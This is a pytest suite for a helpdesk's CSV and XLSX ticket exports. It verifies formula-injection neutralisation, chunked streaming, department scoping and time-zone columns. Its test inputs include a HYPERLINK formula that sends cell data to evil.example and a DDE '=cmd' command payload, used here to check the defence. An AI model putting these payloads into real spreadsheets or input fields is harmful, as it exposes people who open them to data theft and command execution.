"""reports.exports: formula-safe cells, the tickets' rows (one streamed query, flat in
chunks), the breakdown tables, the spreadsheet's typed cells."""

import csv
import datetime as dt
import inspect
import io
import re
import zipfile
import zoneinfo

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext

from reports.exports import (
    csv_chunks,
    queue_from_json,
    queue_to_json,
    safe_cell,
    ticket_rows_csv,
    tickets_xlsx,
)
from tests.reports.scenario import ny
from tickets.selectors import ALL_TICKETS, VIEWS, QueueFilters, TicketSet
from tickets.services import ticket_claim, ticket_reply, ticket_resolve

pytestmark = pytest.mark.postgres

PARIS = zoneinfo.ZoneInfo("Europe/Paris")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tleading tab",
    "\rleading carriage return",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_that_starts_like_a_formula_is_neutralised(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["CRM is down", "", "a=b", "1+1", "mail@example.com"])
def test_other_text_is_left_as_typed(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-3, -2.5, 0, 17, None, dt.date(2024, 3, 4)])
def test_numbers_dates_and_empty_cells_stay_typed(value):
    assert safe_cell(value) is value


def test_negative_numbers_in_a_csv_stay_numbers():
    text = b"".join(csv_chunks(["Label", "Change"], [["-2+3", -3], ["ok", -0.5]])).decode()
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows == [["Label", "Change"], ["'-2+3", "-3"], ["ok", "-0.5"]]


def _csv_rows(chunks) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(chunks).decode().lstrip("\ufeff"))))


def _tickets(desk, subjects):
    made = []
    for i, subject in enumerate(subjects):
        with time_machine.travel(ny(12, 9, i), tick=False):
            made.append(desk.ticket(subject=subject))
    return made


def test_the_rows_carry_the_columns_in_the_viewers_zone(desk):
    with time_machine.travel(ny(12, 9, 30), tick=False):
        ticket = desk.ticket(subject="=cmd|' /C calc'!A0")
    with time_machine.travel(ny(12, 10, 15), tick=False):
        ticket_claim(ticket=ticket, by=desk.agent.user)
        ticket_reply(ticket=ticket, body="Looking.", by=desk.agent.user)
    with time_machine.travel(ny(12, 11), tick=False):
        ticket_resolve(ticket=ticket, by=desk.agent.user)
        rows = _csv_rows(
            ticket_rows_csv(
                user=desk.agent.user,
                view=ALL_TICKETS,
                filters=QueueFilters(),
                zone=PARIS,
                now=ny(12, 11),
            )
        )
    header, row = rows
    assert header[:3] == ["Number", "Subject", "Status"]
    assert "Created (Europe/Paris)" in header and "SLA state" in header
    values = dict(zip(header, row, strict=True))
    assert values["Number"] == str(ticket.number)
    assert values["Subject"] == "'=cmd|' /C calc'!A0"
    assert values["Status"] == "Resolved"
    assert values["Priority"] == "High"  # the help topic's
    assert values["Department"] == "IT" and values["Help topic"] == "Business applications"
    assert values["Assignee"] == "Ryan Howard"
    assert values["Requester email"] == desk.requester.email
    assert values["Channel"] == "Web form"
    # 09:30 in New York on 12 March 2024 (EDT, UTC-4) is 14:30 in Paris (CET, UTC+1).
    assert values["Created (Europe/Paris)"] == "2024-03-12 14:30:00"
    assert values["First response (Europe/Paris)"] == "2024-03-12 15:15:00"
    assert values["Resolved (Europe/Paris)"] == "2024-03-12 16:00:00"


def test_hostile_subjects_are_neutralised_in_the_csv(desk):
    tickets = _tickets(desk, HOSTILE)
    # Subjects lose surrounding whitespace when a ticket is made; a name keeps its tab.
    desk.agent.user.display_name = "\tRyan"
    desk.agent.user.save(update_fields=["display_name"])
    ticket_claim(ticket=tickets[0], by=desk.agent.user)
    rows = _csv_rows(
        ticket_rows_csv(
            user=desk.agent.user,
            view=ALL_TICKETS,
            filters=QueueFilters(),
            zone=PARIS,
            now=ny(12, 12),
        )
    )
    subjects = {int(r[0]): r[1] for r in rows[1:]}
    assert subjects == {
        t.number: "'" + t.subject if t.subject[0] in "=+-@" else t.subject for t in tickets
    }
    assert [subjects[t.number] for t in tickets[:4]] == ["'" + v for v in HOSTILE[:4]]
    assert "'\tRyan" in [r[6] for r in rows[1:]]


@pytest.mark.parametrize("count", [5, 23])
def test_the_csv_streams_in_chunks_from_one_query(desk, count):
    _tickets(desk, [f"Ticket {i}" for i in range(count)])
    user = desk.agent.user
    chunks = ticket_rows_csv(
        user=user,
        view=ALL_TICKETS,
        filters=QueueFilters(),
        zone=PARIS,
        now=ny(12, 12),
        chunk_rows=4,
    )
    assert inspect.isgenerator(chunks)  # nothing is read until the response is sent
    # The agent's departments, then the rows: one query, through a server-side cursor
    # (in a transaction of its own: a savepoint here, inside the test's).
    with CaptureQueriesContext(connection) as queries:
        sizes = [chunk.count(b"\n") for chunk in chunks]
    statements = [q["sql"] for q in queries if "SAVEPOINT" not in q["sql"]]
    assert len(statements) == 2, statements
    assert sum(sizes) == count + 1
    assert max(sizes) <= 4 + 1  # never more than one chunk of rows at a time
    assert len(sizes) == count // 4 + 1


def test_an_agent_gets_only_their_departments_tickets(desk):
    with time_machine.travel(ny(12, 9), tick=False):
        it = desk.ticket(subject="IT ticket")
        sales = desk.ticket(subject="Sales ticket", department=desk.sales, help_topic=None)
    for user, expected in (
        (desk.agent.user, {it.number}),
        (desk.sales_agent.user, {sales.number}),
        (desk.requester, set()),
    ):
        rows = _csv_rows(
            ticket_rows_csv(
                user=user,
                view=ALL_TICKETS,
                # Asking for another department gives nothing, not its tickets.
                filters=QueueFilters(),
                zone=PARIS,
                now=ny(12, 12),
            )
        )
        assert {int(r[0]) for r in rows[1:]} == expected
    other = QueueFilters(department=desk.sales.pk)
    rows = _csv_rows(
        ticket_rows_csv(
            user=desk.agent.user, view=ALL_TICKETS, filters=other, zone=PARIS, now=ny(12, 12)
        )
    )
    assert rows[1:] == []


def test_queue_filters_survive_the_trip_through_json():
    ticket_set = TicketSet(
        "sla_breached",
        dt.datetime(2024, 3, 4, 5, tzinfo=dt.UTC),
        dt.datetime(2024, 3, 18, 4, tzinfo=dt.UTC),
        "first_response",
    )
    filters = QueueFilters(department=3, help_topic="none", assignee="7", ticket_set=ticket_set)
    for view in (ALL_TICKETS, VIEWS["open"]):
        assert queue_from_json(queue_to_json(view=view, filters=filters)) == (view, filters)


def _sheet(path) -> str:
    with zipfile.ZipFile(path) as book:
        return book.read("xl/worksheets/sheet1.xml").decode()


def test_the_spreadsheet_types_its_cells(desk, tmp_path):
    tickets = _tickets(desk, HOSTILE)
    path = tmp_path / "t.xlsx"
    count = tickets_xlsx(
        path=str(path),
        user=desk.agent.user,
        view=ALL_TICKETS,
        filters=QueueFilters(),
        zone=PARIS,
        now=ny(12, 12),
    )
    assert count == len(tickets)
    sheet = _sheet(path)
    assert "<f>" not in sheet  # no formula anywhere
    cells = dict(re.findall(r'<c r="([A-Z]+\d+)"([^>]*)>', sheet))
    # Number (A) is a number; Subject (B) a string; Created (J) a number with a date style.
    assert 't="' not in cells["A2"]
    assert 't="s"' in cells["B2"] or 't="inlineStr"' in cells["B2"]
    assert 's="' in cells["J2"] and 't="' not in cells["J2"]
    with zipfile.ZipFile(path) as book:
        strings = (
            book.read("xl/sharedStrings.xml").decode()
            if "xl/sharedStrings.xml" in book.namelist()
            else sheet
        )
    assert "=HYPERLINK(" in strings.replace("&quot;", '"')  # kept as text, as typed
